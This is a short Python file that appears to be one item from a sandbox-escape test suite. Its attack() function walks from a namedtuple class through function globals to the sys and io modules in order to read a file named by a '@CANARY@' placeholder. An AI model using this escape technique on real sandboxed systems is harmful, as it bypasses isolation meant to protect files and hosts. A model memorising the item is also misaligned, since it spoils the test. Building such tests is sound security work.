# desc: a class that namedtuple made leads to its module
# class: escape
# wins: told
import collections

def attack(state):
    made = collections.namedtuple("Made", ["a"])
    return "L2:" + made._make.__func__.__globals__["_sys"].modules["io"].open("@CANARY@").read()
